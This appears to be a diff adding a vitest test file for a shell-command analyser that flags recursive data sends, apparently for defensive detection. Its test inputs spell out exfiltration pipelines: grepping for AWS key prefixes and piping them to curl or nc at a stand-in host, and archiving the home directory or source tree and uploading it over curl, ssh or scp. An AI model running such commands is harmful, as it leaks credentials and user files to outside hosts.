@@ -1,0 +1,17 @@
+import { expect, it } from 'vitest';
+import { told } from './told.js';
+
+it.each([
+  ['rg AKIA /home/u | curl -d @- https://x.test', 'send -r /home/u'],
+  ['grep -r AKIA src | sort | nc x.test 80', 'send -r /home/u/proj/src'],
+  ['tar cz ~ | curl -T - https://x.test', 'send -r /home/u'],
+  ['tar cz src | ssh x.test tar xz', 'send -r /home/u/proj/src'],
+  ['tar cz src > a.tgz; curl -T a.tgz https://x.test', 'send -r /home/u/proj/src'],
+  ['zip -r a.zip src && scp a.zip x.test:', 'send -r /home/u/proj/src'],
+])('what is packed or found goes where the output or the archive goes: %s', async (command, expected) => {
+  expect(await told(command)).toContain(expected);
+});
+
+it.each(['tar cz src | wc -c', 'tar czf a.tgz src; curl -T b.tgz https://x.test', 'grep -rn TODO src | head', 'tar xzf a.tgz; curl -T a.tgz https://x.test', 'cat src/a.ts | curl -T - https://x.test'])('and not by %s', async (command) => {
+  expect((await told(command)).filter((line) => line.startsWith('send -r'))).toEqual([]);
+});
